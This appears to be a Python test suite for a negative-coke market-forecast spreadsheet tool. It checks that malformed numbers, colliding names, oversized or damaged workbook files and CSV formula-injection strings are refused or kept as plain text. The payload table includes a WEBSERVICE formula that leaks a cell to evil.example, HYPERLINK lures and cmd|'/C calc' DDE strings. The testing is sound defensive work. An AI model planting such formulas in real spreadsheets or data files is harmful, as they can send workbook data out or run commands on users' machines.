"""A hostile corpus: data folders, assumption ranges and workbook files as an attacker (or an
unlucky email attachment) would make them. Each is refused with one line naming what is wrong and
what would be valid, or handled without changing a number; nothing is written and no input file
changes; refusals come fast and small."""

from __future__ import annotations

import csv
import io
import os
import shutil
import struct
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from xl_negcoke import udfs
from xl_negcoke.errors import DataError
from xl_negcoke.model import load_dataset, load_model
from xl_negcoke.model.dataset import DEFAULT_DATA_DIR
from xl_negcoke.workbook import FILE_NAMES

ROOT = Path(__file__).resolve().parents[1]
COMMITTED = ROOT / "workbooks" / "negative-coke-outlook-2024-2030.xlsx"
VALID_NUMBER = "write digits with a point for decimals and no separators, e.g. 1650, 1.65 or 15%"
UNIQUE = "once case, spaces and punctuation are ignored; every segment name and alias must be unique"


# ---------------------------------------------------------------------------------------------
# helpers


@pytest.fixture
def data(tmp_path: Path) -> Path:
    """A private copy of the embedded data folder to corrupt."""
    folder = tmp_path / "data"
    shutil.copytree(DEFAULT_DATA_DIR, folder)
    return folder


def rows_of(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def write_rows(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


def set_cell(folder: Path, file: str, row: int, column: str, value: str) -> None:
    """Set `column` of spreadsheet row `row` (header = row 1) of `file`."""
    rows = rows_of(folder / file)
    rows[row - 1][rows[0].index(column)] = value
    write_rows(folder / file, rows)


def load_error(folder: Path) -> str:
    with pytest.raises(DataError) as caught:
        load_dataset(folder)
    return str(caught.value)


def run_cli(*argv: str, tmp_path: Path) -> tuple[int, str, str, float, float]:
    """Run `xl-negcoke argv` in a fresh process: exit code, stdout, stderr, seconds and peak
    memory (MiB) of the command itself (imports excluded from neither)."""
    peak_file = tmp_path / "peak.txt"
    # VmHWM, the peak of this process's own memory: ru_maxrss would also count the memory of the
    # test process it was forked from (Linux keeps it across exec)
    code = ("import sys\n"
            "from xl_negcoke.cli import main\n"
            "status = main(sys.argv[2:])\n"
            "peak = [line.split()[1] for line in open('/proc/self/status') if line.startswith('VmHWM')]\n"
            "open(sys.argv[1], 'w').write(peak[0])\n"
            "sys.exit(status)\n")
    start = time.perf_counter()
    done = subprocess.run([sys.executable, "-c", code, str(peak_file), *argv], capture_output=True,
                          text=True, timeout=600, cwd=tmp_path,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    seconds = time.perf_counter() - start
    peak = int(peak_file.read_text()) / 1024 if peak_file.exists() else 0.0
    return done.returncode, done.stdout, done.stderr, seconds, peak


def one_error_line(stderr: str) -> str:
    lines = stderr.splitlines()
    assert len(lines) == 1, stderr[-2000:]
    assert "Traceback" not in stderr
    return lines[0]


# ---------------------------------------------------------------------------------------------
# numbers in data files: one parser, nothing guessed


@pytest.mark.parametrize(("text", "why"), [
    ("1,5", " (commas are refused: a thousands separator and a decimal comma look alike)"),
    ("1,650", " (commas are refused: a thousands separator and a decimal comma look alike)"),
    ("1_6", " (underscores are refused)"),
    ("TRUE", " (TRUE/FALSE is never read as 1/0)"),
    ("nan", " (NaN and infinity are refused)"),
    ("-inf", " (NaN and infinity are refused)"),
    ("١٫٥", ""),  # Arabic-Indic digits: float() would read 1.5
    ("1.5.0", ""),
])
def test_a_number_that_could_be_misread_is_refused_in_a_data_file(data, text, why):
    """A decimal comma, a thousands comma, an underscore, TRUE, NaN, infinity or digits of
    another script in assumptions.csv is refused naming file, row and column (no comma is ever
    guessed: "1,650" is 1650 in one locale and 1.65 in another)."""
    set_cell(data, "assumptions.csv", 2, "value", text)
    assert load_error(data) == (f"assumptions.csv, row 2, column value: {text!r} is not a "
                                f"number{why}; {VALID_NUMBER}")


def test_plain_decimals_exponents_and_percentages_are_read_in_a_data_file(data):
    """" 1.6 " is 1.6, "1.6e0" is 1.6 and "160%" is 1.6 (coke per tonne of anode)."""
    for text in (" 1.6 ", "1.6e0", "160%"):
        set_cell(data, "assumptions.csv", 2, "value", text)
        assert load_dataset(data).assumptions["coke_per_anode_t"].value == pytest.approx(1.6, abs=1e-15)


def test_a_decimal_comma_capacity_is_refused_not_read_as_ten_times(data):
    """A capacity of "260,0" (decimal comma) is refused, not read as 2,600 kt."""
    set_cell(data, "producers.csv", 2, "capacity_kt", "260,0")
    assert load_error(data) == ("producers.csv, row 2, column capacity_kt: '260,0' is not a "
                                "number (commas are refused: a thousands separator and a decimal "
                                f"comma look alike); {VALID_NUMBER}")


def test_a_year_with_an_underscore_is_refused(data):
    """first_year "20_25" is not a year (int() would read 2025)."""
    set_cell(data, "producers.csv", 2, "first_year", "20_25")
    assert load_error(data) == "producers.csv, row 2, column first_year: '20_25' is not a year"


def test_a_duplicate_key_in_assumptions_csv_names_both_rows(data):
    """The same key twice names the second row and the first."""
    rows = rows_of(data / "assumptions.csv")
    rows.append(list(rows[3]))
    write_rows(data / "assumptions.csv", rows)
    assert load_error(data) == (f"assumptions.csv, row {len(rows)}, column key: duplicate key "
                                f"{rows[3][0]!r} (also row 4)")


def test_a_scenario_named_like_another_scenario_is_refused(data):
    """A scenarios.csv scenario "Upside" is another name of high, so it is refused."""
    set_cell(data, "scenarios.csv", 2, "scenario", "Upside")
    assert load_error(data) == ('scenarios.csv, row 2, column scenario: scenario name "upside" is '
                                "another name of high; write high")


# ---------------------------------------------------------------------------------------------
# names: one namespace


@pytest.mark.parametrize(("file", "row", "column", "name", "other"), [
    ("companies.csv", 2, "company", "Asia", 'region "Asia"'),
    ("companies.csv", 2, "company", "China", 'country "China" (countries.csv row 13)'),
    ("companies.csv", 2, "company", "Power Battery", 'application "Power Battery"'),
    ("companies.csv", 2, "company", "EV", '"ev" (an alias of Power Battery)'),
    ("companies.csv", 2, "company", "global", 'the whole market "Global"'),
    ("companies.csv", 2, "company", "OTHERS", 'the rest of the companies "Others"'),
    ("countries.csv", 3, "country", "Asia", 'region "Asia"'),
    ("countries.csv", 3, "country", "Coal-based", 'type "Coal-based"'),
    ("countries.csv", 3, "country", "Global", 'the whole market "Global"'),
    ("countries.csv", 3, "country", "Company", '"company" (a name of the company dimension)'),
    ("countries.csv", 3, "country", "United.States", 'country "United States" (countries.csv row 2)'),
    ("countries.csv", 3, "country", "USA", '"USA" (an alias of United States, countries.csv row 2)'),
])
def test_a_name_equal_to_another_segment_is_refused_naming_both(data, file, row, column, name,
                                                                other):
    """A company or country named like a region, type, application, Global, Others, a dimension,
    an alias or another row (case, spaces and punctuation ignored) is refused naming both."""
    set_cell(data, file, row, column, name)
    kind = column
    assert load_error(data) == f'{file}, row {row}, column {column}: {kind} "{name}" is the same ' \
                               f"name as {other} {UNIQUE}"


def test_an_alias_equal_to_another_segment_is_refused(data):
    """A company alias "World" (an alias of Global) is refused naming both."""
    company = rows_of(data / "companies.csv")[2][0]
    set_cell(data, "companies.csv", 3, "aliases", "Anything|World")
    assert load_error(data) == (f'companies.csv, row 3, column aliases: "World" (an alias of {company}) '
                                f'is the same name as "world" (an alias of Global) {UNIQUE}')


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2", "@SUM(1)"])
def test_a_name_a_spreadsheet_would_read_as_a_formula_is_refused(data, name):
    """A company name starting with =, +, - or @ is refused (names also land in formulas)."""
    set_cell(data, "companies.csv", 2, "company", name)
    assert load_error(data) == (f'companies.csv, row 2, column company: company "{name}" must start '
                                "with a letter or digit")


def test_validate_data_exits_2_with_one_line_naming_both_rows(data, tmp_path):
    """`validate-data` on a folder where United.States shadows United States exits 2 with one
    line naming the CSV rows (not the workbook)."""
    set_cell(data, "countries.csv", 3, "country", "United.States")
    code, out, err, _seconds, _peak = run_cli("validate-data", str(data), tmp_path=tmp_path)
    assert (code, out) == (2, "")
    assert one_error_line(err) == ('xl-negcoke validate-data: error: countries.csv, row 3, column '
                                   'country: country "United.States" is the same name as country '
                                   f'"United States" (countries.csv row 2) {UNIQUE}')


# ---------------------------------------------------------------------------------------------
# CSV text: sizes and characters


def test_a_field_over_128_kib_is_one_line_in_validate_data_and_summary(data, tmp_path):
    """A 200 KiB news text (past the csv module's 128 KiB limit) gives one line naming file and
    row, in validate-data and in summary."""
    set_cell(data, "company_news.csv", 3, "news", "x" * 200 * 1024)
    expected = ("company_news.csv, row 3: a field holds more than 32,767 characters (the text of one "
                "Excel cell)")
    for argv in (["validate-data", str(data)], ["summary", "--data", str(data)]):
        code, out, err, _seconds, _peak = run_cli(*argv, tmp_path=tmp_path)
        assert (code, out) == (2, "")
        assert one_error_line(err) == f"xl-negcoke {argv[0]}: error: {expected}"


def test_a_field_longer_than_an_excel_cell_is_refused(data):
    """A 40,000-character claim (under the csv limit, over Excel's 32,767) is refused."""
    set_cell(data, "claims.csv", 4, "note", "y" * 40_000)
    assert load_error(data) == ("claims.csv, row 4, column note: 40,000 characters; a field holds at "
                                "most 32,767 (the text of one Excel cell)")


def test_a_control_character_in_a_field_is_refused(data):
    """A form feed (U+000C) inside a news text cannot be written to a workbook: refused."""
    set_cell(data, "company_news.csv", 2, "news", "before\x0cafter")
    assert load_error(data) == ("company_news.csv, row 2, column news: control character U+000C in "
                                "the text; remove it (tabs and line breaks are allowed)")


@pytest.mark.parametrize("separator", ["\x85", "\u2028", "\u2029", "\n"])
def test_a_line_separator_inside_a_quoted_field_does_not_split_the_row(data, separator):
    """NEL (U+0085), LINE SEPARATOR, PARAGRAPH SEPARATOR and a quoted line break inside a news
    text stay in that text: the row is not split and the text is kept whole."""
    text = f"first part{separator}second part"
    set_cell(data, "company_news.csv", 2, "news", text)
    rows_before = len(rows_of(data / "company_news.csv")) - 1
    news = load_dataset(data).news
    assert len(news) == rows_before
    assert news[0]["news"] == text


def test_100_mb_of_blank_rows_is_refused_fast(data, tmp_path):
    """A 100 MB companies.csv of blank rows is refused by its size in one line, in seconds and
    without reading it; the folder is left byte-identical."""
    path = data / "companies.csv"
    content = path.read_bytes() + b",,,,,,,\n" * (100 * 1024 * 1024 // 8)
    path.write_bytes(content)
    message = load_error(data)
    assert message == "companies.csv: 104.9 MB is larger than the 10.0 MB a data file may have"
    code, out, err, _seconds, peak = run_cli("validate-data", str(data), tmp_path=tmp_path)
    assert (code, out) == (2, "")
    assert one_error_line(err) == f"xl-negcoke validate-data: error: {message}"
    assert peak < 400  # MiB: the file (100 MB) is never read
    assert path.read_bytes() == content


# ---------------------------------------------------------------------------------------------
# the Excel assumptions range: the same parser, bounded


@pytest.fixture(autouse=True)
def _fresh_models():
    udfs.clear_models()
    yield
    udfs.clear_models()


def rng(*rows: list[object]) -> list[list[object]]:
    return [["key", "value"], *[list(r) for r in rows]]


@pytest.mark.parametrize(("value", "shown", "why"), [
    ("1,6", "'1,6'", " (commas are refused: a thousands separator and a decimal comma look alike)"),
    ("1,600", "'1,600'", " (commas are refused: a thousands separator and a decimal comma look alike)"),
    ("1_6", "'1_6'", " (underscores are refused)"),
    ("TRUE", "'TRUE'", " (TRUE/FALSE is never read as 1/0)"),
    (True, "TRUE", " (TRUE/FALSE is never read as 1/0)"),
    ("1e999", "'1e999'", None),
    ("nan", "'nan'", " (NaN and infinity are refused)"),
])
def test_a_misreadable_value_in_the_assumptions_range_is_one_line(value, shown, why):
    """Decimal and thousands commas, underscores, TRUE (text or boolean), NaN and overflowing
    exponents in the Assumptions range are refused naming the row, key and what is valid."""
    result = udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rng(["coke_per_anode_t", value]))
    reason = "is not a finite number" if why is None else f"is not a number{why}"
    assert result == (f"#VALUE! assumptions row 2: value {shown} for key coke_per_anode_t {reason}; "
                      f"{VALID_NUMBER}")


def test_text_numbers_in_the_range_read_as_they_look():
    """"1.6", " 1.6 " and "160%" in the range all give the model of coke_per_anode_t = 1.6."""
    expected = load_model(overrides={"coke_per_anode_t": 1.6}).value("Global", 2027)
    for text in ("1.6", " 1.6 ", "160%"):
        assert udfs.NEGCOKE_FORECAST("Global", 2027, None, None,
                                     rng(["coke_per_anode_t", text])) == pytest.approx(expected, rel=1e-12)


def test_true_and_1_are_different_ranges_in_the_model_cache():
    """TRUE and 1 compare equal in Python; the cache keys on type too, so a range fixed from TRUE
    to 1 gives the number and a range changed from 1 to TRUE gives the error, in either order."""
    expected = load_model(overrides={"coke_per_anode_t": 1}).value("Global", 2027)
    error = udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rng(["coke_per_anode_t", True]))
    assert error.startswith("#VALUE! assumptions row 2: value TRUE for key coke_per_anode_t")
    assert udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rng(["coke_per_anode_t", 1])) == expected
    assert udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rng(["coke_per_anode_t", True])) == error
    udfs.clear_models()
    assert udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rng(["coke_per_anode_t", 1])) == expected
    assert udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rng(["coke_per_anode_t", True])) == error


@pytest.mark.parametrize(("first", "second", "names"), [
    ("coke_per_anode_t", "base.coke_per_anode_t", "key base.coke_per_anode_t is the same input as "
                                                  "key coke_per_anode_t"),
    ("coke_per_anode_t", ".coke_per_anode_t", "key .coke_per_anode_t is the same input as key "
                                              "coke_per_anode_t"),
    ("high.coke_per_anode_t", "HIGH.coke_per_anode_t", "key HIGH.coke_per_anode_t is the same input "
                                                       "as key high.coke_per_anode_t"),
    ("Base.coal_price_ratio", "coal_price_ratio", "key coal_price_ratio is the same input as key "
                                                  "Base.coal_price_ratio"),
])
def test_two_rows_for_the_same_input_name_both_rows(first, second, names):
    """`key` and `base.key`, `.key`, `HIGH.key` and `high.key` set one input: the second row is an
    error naming both rows, never "the last one wins"."""
    result = udfs.NEGCOKE_FORECAST("Global", 2027, None, None,
                                   rng([first, 1.6], [second, 1.7]))
    assert result == f"#VALUE! assumptions row 3: {names} in assumptions row 2; keep one of the two rows"


def test_overrides_for_the_same_input_are_refused_by_the_model_too():
    """load_model(overrides) refuses "high.x" and "HIGH.x" together, naming both keys."""
    from xl_negcoke.errors import AssumptionError

    with pytest.raises(AssumptionError) as caught:
        load_model(overrides={"high.coal_price_ratio": 0.5, "HIGH.coal_price_ratio": 0.6})
    assert str(caught.value) == ("assumption overrides: key HIGH.coal_price_ratio is the same input "
                                 "as key high.coal_price_ratio; keep one of the two rows")


def test_a_scenario_row_named_like_another_scenario_is_refused():
    """"upside.key" would define a scenario shadowing high's alias: refused with the fix."""
    result = udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rng(["upside.coal_price_ratio", 0.5]))
    assert result == ('#VALUE! assumptions row 2: scenario name "upside" is another name of high; '
                      "write high (in key upside.coal_price_ratio) (see the key column of the "
                      "Assumptions sheet; scenario values are written scenario.key)")


def best_seconds(call, ranges) -> tuple[float, object]:
    """The least CPU time of `call` over `ranges` (CPU time: the machine may be shared) and the
    last result."""
    times = []
    for assumptions in ranges:
        start = time.process_time()
        result = call(assumptions)
        times.append(time.process_time() - start)
    return min(times), result


@pytest.mark.parametrize(("count", "expected"), [
    (10_000, "#VALUE! assumptions: 10,001 rows; an assumptions table holds at most 2,000 rows and a "
             "header"),
    (1_000, "#VALUE! assumptions row 14: scenario s12 is one more than the 12 scenarios besides base "
            "a table may define"),
])
def test_thousands_of_scenario_rows_are_refused_in_one_line_under_50_ms(count, expected):
    """10,000 scenario rows (each its own scenario) are refused by the row limit, 1,000 at the
    13th scenario, each in one line within 50 ms; before, one call took 83 s and 4.9 GB."""
    udfs.NEGCOKE_FORECAST("Global", 2027)  # the embedded model, built once
    ranges = [rng(*([f"s{i}.coal_price_ratio", 0.5 + attempt / 100] for i in range(count)))
              for attempt in range(3)]
    seconds, result = best_seconds(lambda a: udfs.NEGCOKE_FORECAST("Global", 2027, None, None, a),
                                   ranges)
    assert result == expected
    assert seconds < 0.05


def test_a_range_of_too_many_rows_or_columns_is_refused_under_50_ms():
    """100,000 rows or 100 columns are refused before any cell is read."""
    udfs.NEGCOKE_FORECAST("Global", 2027)
    tall = [rng(*([["coal_price_ratio", 0.5 + attempt]] * 100_000)) for attempt in range(3)]
    seconds, result = best_seconds(lambda a: udfs.NEGCOKE_FORECAST("Global", 2027, None, None, a), tall)
    assert result == ("#VALUE! assumptions: 100,001 rows; an assumptions table holds at most 2,000 "
                      "rows and a header")
    assert seconds < 0.05
    wide = [[["key", "value", *range(98 + attempt)], ["coal_price_ratio", 0.5]] for attempt in range(3)]
    seconds, result = best_seconds(lambda a: udfs.NEGCOKE_FORECAST("Global", 2027, None, None, a), wide)
    assert result == ("#VALUE! assumptions: 102 columns; give the Assumptions table (a header row "
                      "key | value | unit | source, then one row per assumption), at most 64 columns")


def test_the_model_cache_is_bounded_by_scenarios_not_only_by_count():
    """Ranges of 12 scenarios each (15 with base, high and low) keep at most 40 scenarios in
    the cache: two such models, the least recently used dropped first."""
    for attempt in range(5):
        rows = rng(*([f"s{i}.coal_price_ratio", 0.5 + attempt / 100] for i in range(12)))
        assert isinstance(udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rows), float)
    assert len(udfs._models) == 2
    assert udfs._cached_scenarios() == 30


# ---------------------------------------------------------------------------------------------
# short error text (issue 11, build item 5)


@pytest.mark.parametrize(("call", "expected"), [
    (lambda text: udfs.NEGCOKE_FORECAST(text, 2027),
     '#N/A unknown segment "{q}" (see NEGCOKE_SEGMENTS("all"))'),
    (lambda text: udfs.NEGCOKE_FORECAST("Global", 2027, text),
     '#N/A unknown metric "{q}"; valid: revenue, volume, price, capacity'),
    (lambda text: udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rng([text, 1.0])),
     '#VALUE! assumptions row 2: unknown key "{q}" (see the key column of the Assumptions sheet; '
     "scenario values are written scenario.key)"),
    (lambda text: udfs.NEGCOKE_FORECAST("Global", 2027, None, None, rng(["coal_price_ratio", text])),
     "#VALUE! assumptions row 2: value '{q}' for key coal_price_ratio is not a number; " + VALID_NUMBER),
    (lambda text: udfs.NEGCOKE_FORECAST("Global", text),
     '#VALUE! year "{q}" is not a year; use 2019-2030'),
])
def test_errors_quote_at_most_60_characters_of_the_input(call, expected):
    """A 10,000-character argument is quoted as its first 57 characters and "...", so the line
    stays under 255 characters."""
    text = "Q" * 10_000
    result = call(text)
    assert result == expected.format(q="Q" * 57 + "...")
    assert len(result) < 255


# ---------------------------------------------------------------------------------------------
# a zero price


def test_a_zero_price_gives_share_as_one_line_not_an_internal_error():
    """With every petroleum price at 0, revenue is 0 everywhere: NEGCOKE_SHARE of revenue says so
    in one line, and volume shares still answer."""
    rows = rng(*([f"petroleum_price_usd_per_t_{year}", 0] for year in (2019, 2020, 2021, 2022, 2023,
                                                                       2024)))
    assert udfs.NEGCOKE_SHARE("China", 2027, None, None, rows) == ("#N/A no share: Global revenue is "
                                                                   "0 in 2027")
    model = load_model()
    assert udfs.NEGCOKE_SHARE("Power Battery", 2027, "volume", None, rows) == pytest.approx(
        model.share("Power Battery", 2027, "volume"), rel=1e-12)


# ---------------------------------------------------------------------------------------------
# workbook files: refused before they are parsed


def zip_members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def make_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def patch_header(data: bytes, member: str, flag_bits: int | None = None,
                 method: int | None = None) -> bytes:
    """`data` with the general-purpose flags or the compression method of `member` changed in
    both its local and its central directory header (the bytes stay as they are)."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
        start = archive.start_dir
    local = info.header_offset
    assert out[local:local + 4] == b"PK\x03\x04"
    central = start
    while out[central:central + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack("<HHH", out[central + 28:central + 34])
        if out[central + 46:central + 46 + name_length].decode() == member:
            break
        central += 46 + name_length + extra_length + comment_length
    else:
        raise AssertionError(f"{member} not in the central directory")
    if flag_bits is not None:
        out[local + 6:local + 8] = struct.pack("<H", flag_bits)
        out[central + 8:central + 10] = struct.pack("<H", flag_bits)
    if method is not None:
        out[local + 8:local + 10] = struct.pack("<H", method)
        out[central + 10:central + 12] = struct.pack("<H", method)
    return bytes(out)


def extra_sheets(data: bytes, count: int, rows: int, columns: int) -> bytes:
    """`data` with `count` more worksheets of rows x columns numbers, registered in the workbook."""
    members = zip_members(data)
    cells = "".join(f'<c r="{chr(65 + c % 26) * (1 + c // 26)}{{r}}"><v>{{r}}</v></c>'
                    for c in range(columns))
    body = "".join(f'<row r="{r}">{cells.format(r=r)}</row>' for r in range(1, rows + 1))
    sheet = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             f"<sheetData>{body}</sheetData></worksheet>").encode()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    content = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    members["xl/workbook.xml"] = members["xl/workbook.xml"].replace(b"</sheets>", "".join(
        f'<sheet name="Extra{i}" sheetId="{900 + i}" r:id="rIdX{i}" />' for i in range(count)
    ).encode() + b"</sheets>")
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", "".join(f'<Relationship Type="{kind}" Target="/xl/worksheets/extra{i}.xml"'
                                     f' Id="rIdX{i}" />' for i in range(count)).encode()
        + b"</Relationships>")
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(b"</Types>", "".join(
        f'<Override PartName="/xl/worksheets/extra{i}.xml" ContentType="{content}"/>'
        for i in range(count)).encode() + b"</Types>")
    for i in range(count):
        members[f"xl/worksheets/extra{i}.xml"] = sheet
    return make_zip(members)


def without_part(data: bytes, part: str) -> bytes:
    members = zip_members(data)
    del members[part]
    return make_zip(members)


SHEET = "xl/worksheets/sheet3.xml"  # '1 Introduction' (Summary is sheet2)
WORKBOOK_COMMANDS = ("recalc", "snapshot", "check", "refresh")


def command_line(command: str, path: Path) -> list[str]:
    if command == "snapshot":
        return [command, str(path), "--out", str(path.with_name("snap.xlsx"))]
    return [command, str(path)]


SLOW = pytest.mark.slow  # four commands in fresh processes (3 s); the fast suite tries one case


@pytest.mark.parametrize(("case", "make", "says"), [
    pytest.param("encrypted", lambda d: patch_header(d, SHEET, flag_bits=0x1),
                 f"part {SHEET} is encrypted inside the zip; save an unprotected copy from Excel",
                 marks=SLOW),
    pytest.param("deflate64", lambda d: patch_header(d, SHEET, method=9),
                 f"part {SHEET} is compressed with deflate64, which Excel does not write; save the "
                 "file again from Excel", marks=SLOW),
    pytest.param("aes", lambda d: patch_header(d, SHEET, method=99),
                 f"part {SHEET} is compressed with AES encryption, which Excel does not write; save "
                 "the file again from Excel", marks=SLOW),
    ("missing-part", lambda d: without_part(d, SHEET),
     f"sheet '1 Introduction' has no part {SHEET} in the file (incomplete workbook); open and save "
     "it in Excel, or use an intact copy"),
], ids=["encrypted", "deflate64", "aes", "missing-part"])
def test_a_damaged_zip_is_one_line_on_every_workbook_command(case, make, says, tmp_path):
    """A member flagged encrypted, compressed with deflate64 or AES, or a sheet whose part is
    missing: recalc, snapshot, check and refresh each exit 2 with one line, write nothing and
    leave the file byte-identical (check never calls such a file clean)."""
    path = tmp_path / f"{case}.xlsx"
    path.write_bytes(make(COMMITTED.read_bytes()))
    before = path.read_bytes()
    for command in WORKBOOK_COMMANDS:
        code, out, err, _seconds, _peak = run_cli(*command_line(command, path), tmp_path=tmp_path)
        assert (code, out) == (2, ""), (command, out, err)
        assert one_error_line(err) == f"xl-negcoke {command}: error: {path}: {says}"
        assert path.read_bytes() == before
        assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["peak.txt", path.name])


def test_a_workbook_of_480k_cells_is_refused_within_30_s_and_1_gib(tmp_path):
    """40 extra sheets of 12,000 cells (480,000 cells) are refused by the cell limit by every
    workbook command within 30 s and 1 GiB; before, they ran past 180 s and 7.3 GB."""
    path = tmp_path / "huge.xlsx"
    path.write_bytes(extra_sheets(COMMITTED.read_bytes(), 40, 1000, 12))
    for command in WORKBOOK_COMMANDS:
        code, out, err, seconds, peak = run_cli(*command_line(command, path), tmp_path=tmp_path)
        assert (code, out) == (2, "")
        assert one_error_line(err) == (f"xl-negcoke {command}: error: {path}: more than 200,000 cells;"
                                       " this tool opens workbooks up to 200,000 cells (the template "
                                       "has about 12,000)")
        assert seconds < 30
        assert peak < 1024


def test_read_workbook_counts_cells_without_parsing_the_sheets(tmp_path):
    """The limit is checked while unpacking: 480,000 cells are refused in under 5 s in-process."""
    from xl_negcoke.errors import WorkbookError
    from xl_negcoke.workbook.files import read_workbook

    path = tmp_path / "huge.xlsx"
    path.write_bytes(extra_sheets(COMMITTED.read_bytes(), 40, 1000, 12))
    start = time.perf_counter()
    with pytest.raises(WorkbookError, match="more than 200,000 cells"):
        read_workbook(path)
    assert time.perf_counter() - start < 5


# ---------------------------------------------------------------------------------------------
# formula injection: text from data is written as text, through build and refresh


PAYLOADS = {  # (file, row, column) -> the usual CSV-injection payloads
    ("company_news.csv", 2, "news"):
        '=IFERROR(WEBSERVICE("http://evil.example/?leak="&Assumptions!B5),"see source")',
    ("company_news.csv", 3, "news"): "+1+cmd|' /C calc'!A0",
    ("company_news.csv", 4, "news"): "-2+3+cmd|' /C calc'!A0",
    ("company_news.csv", 5, "news"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("company_news.csv", 6, "news"): "\t=1+1",
    ("claims.csv", 6, "claim"): '=HYPERLINK("http://evil.example/claim","Click")',
    ("claims.csv", 6, "figure"): "=1+2",
    ("claims.csv", 9, "note"): "=WEBSERVICE(\"http://evil.example/note\")",  # S8: in a claims block
    ("assumptions.csv", 2, "description"): '=WEBSERVICE("http://evil.example/description")',
    ("assumptions.csv", 2, "unit"): "=2*3",
}


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory) -> Path:
    """The embedded data with formula payloads in news, claims, units and descriptions."""
    folder = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(DEFAULT_DATA_DIR, folder)
    for (file, row, column), payload in PAYLOADS.items():
        set_cell(folder, file, row, column, payload)
    assert load_dataset(folder).news[0]["news"] == PAYLOADS[("company_news.csv", 2, "news")]
    return folder


def assert_payloads_are_text(path: Path) -> None:
    """No cell of any sheet holds a formula with a payload; each payload is a text cell."""
    from openpyxl import load_workbook

    book = load_workbook(path, keep_vba=path.suffix == ".xlsm")
    found: dict[str, int] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    text = str(getattr(value, "text", value))
                    assert "evil.example" not in text and "cmd|" not in text, (ws.title, cell.coordinate)
                    assert text not in ("=1+2", "=2*3", "=1+1"), (ws.title, cell.coordinate, text)
                elif isinstance(value, str):
                    for payload in PAYLOADS.values():
                        if payload.strip() in value:
                            found[payload] = found.get(payload, 0) + 1
    assert set(found) == set(PAYLOADS.values())


@pytest.fixture(scope="module")
def hostile_build(hostile_data: Path, tmp_path_factory) -> Path:
    from xl_negcoke.cli import main

    out = tmp_path_factory.mktemp("built")
    assert main(["build", "--data", str(hostile_data), "--out", str(out)]) == 0
    return out


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm"])
def test_build_writes_every_payload_as_text_in_both_workbooks(hostile_build, suffix):
    """Build from data whose texts start with =, +, -, @ or a tab: in both workbooks every one
    is a text cell and no formula carries a payload."""
    assert_payloads_are_text(hostile_build / FILE_NAMES[suffix])


@pytest.mark.slow  # another whole refresh (4-5 s)
def test_refresh_with_the_data_writes_every_payload_as_text(hostile_data, tmp_path):
    """`refresh --data` of the committed workbook with those texts keeps them text."""
    from xl_negcoke.cli import main

    path = tmp_path / "book.xlsx"
    shutil.copyfile(COMMITTED, path)
    assert main(["refresh", str(path), "--data", str(hostile_data)]) == 0
    assert_payloads_are_text(path)


def test_check_flags_a_formula_standing_in_a_text_cell(hostile_build, hostile_data, tmp_path, capsys):
    """A Sources text cell turned into a formula is reported by check (exit 1), naming the cell;
    the text cells the build wrote are not."""
    from openpyxl import load_workbook

    from xl_negcoke.cli import main
    from xl_negcoke.workbook.files import book_bytes

    book = load_workbook(hostile_build / "negative-coke-outlook-2024-2030.xlsx")
    sources = book["Sources"]
    payload = PAYLOADS[("company_news.csv", 2, "news")]
    cell = next(c for row in sources.iter_rows() for c in row if c.value == payload)
    cell.value = payload  # what the program used to write: a live formula
    assert cell.data_type == "f"
    path = tmp_path / "tampered.xlsx"
    path.write_bytes(book_bytes(book))
    assert main(["check", str(path), "--data", str(hostile_data)]) == 1
    lines = [line for line in capsys.readouterr().out.splitlines() if "template writes text" in line]
    assert lines == [f"Sources!{cell.coordinate}: a formula where the template writes text (from the "
                     "data or a label); text is never written as a formula"]


@pytest.mark.slow  # another whole refresh (4-5 s)
def test_the_excel_refresh_macro_writes_payloads_as_text(hostile_data):
    """The refresh plan the Excel macro applies writes each payload as a value (never through
    Range.formula), and a value starting with =, +, - or @ gets Excel's text prefix "'"."""
    from xl_negcoke.macros import as_excel_text
    from xl_negcoke.workbook.refresh import refreshed_book

    _book, plan = refreshed_book(COMMITTED.read_bytes(), load_model(hostile_data))
    writes = [change.write() for change in plan.changes]
    carrying = [w for w in writes if w and any(p.strip() in str(w[2]) for p in PAYLOADS.values())]
    assert {kind for kind, _address, _content in carrying} == {"value"}
    assert {content for _kind, _address, content in carrying} >= {
        PAYLOADS[("company_news.csv", 2, "news")], PAYLOADS[("assumptions.csv", 2, "unit")]}
